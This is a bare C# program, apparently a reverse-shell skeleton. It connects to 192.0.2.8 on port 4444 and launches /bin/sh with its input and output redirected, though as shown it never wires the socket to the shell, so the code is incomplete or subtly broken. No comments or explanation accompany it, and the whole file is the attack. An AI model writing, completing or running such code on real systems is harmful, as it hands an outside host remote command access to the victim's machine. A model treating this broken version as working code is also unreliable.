using System.Net.Sockets;
using System.Diagnostics;
class P { static void Main() {
  var c = new TcpClient("192.0.2.8", 4444); var s = c.GetStream();
  var p = new Process(); p.StartInfo.FileName = "/bin/sh";
  p.StartInfo.RedirectStandardInput = true; p.StartInfo.RedirectStandardOutput = true; p.Start();
} }
